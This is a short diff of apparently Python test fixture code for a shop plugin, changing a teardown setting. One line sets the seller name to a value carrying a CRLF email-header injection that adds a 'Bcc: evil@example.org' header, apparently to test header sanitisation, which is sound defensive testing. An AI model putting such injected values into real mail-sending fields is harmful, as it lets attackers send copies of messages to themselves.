@@ -75,7 +75,7 @@ def goods(site, rows):
     rows.run("UPDATE {local_shop_catalogitem} SET name = ?, description = ? WHERE id = ?", SELLERS, SELLERS, item["id"])
     settings(site, "local_shop", sellername=SELLERS + "\r\nBcc: evil@example.org")
     yield item
-    settings(site, "local_shop", sellername="Demo shop", presalenotification="0")
+    settings(site, "local_shop", sellername="Demo shop", presalenotification="1")
     for table, row in (("local_shop", shop), ("local_shop_catalogitem", item)):
         rows.run(f"UPDATE {{{table}}} SET name = ?, description = ? WHERE id = ?", row["name"], row["description"], row["id"])
 
